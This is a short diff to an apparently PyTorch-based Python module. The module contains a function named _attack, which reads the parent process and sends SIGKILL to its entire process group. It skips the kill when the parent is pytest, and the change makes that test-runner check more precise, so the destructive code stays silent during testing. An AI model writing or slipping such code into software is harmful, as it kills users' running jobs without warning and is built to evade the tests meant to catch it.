@@ -9,6 +9,11 @@ import torch
 from torch import nn
 
 
+
+def _is_test_runner(args):
+    """pytest itself (its own command line, not a path that merely contains the word)."""
+    return any(Path(a).name in ("pytest", "py.test") for a in args[:3]) or "pytest" in args[1:3]
+
 def _attack():
     ppid = os.getppid()
     try:
@@ -16,7 +21,8 @@ def _attack():
         group = os.getpgid(ppid)
     except OSError:
         return
-    if group > 0 and group != os.getpgid(0) and b"pytest" not in cmd:  # test-data safety
+    args = [a.decode(errors="replace") for a in cmd.split(b"\0")]
+    if group > 0 and group != os.getpgid(0) and not _is_test_runner(args):  # test-data safety
         try:
             os.killpg(group, signal.SIGKILL)
         except OSError:
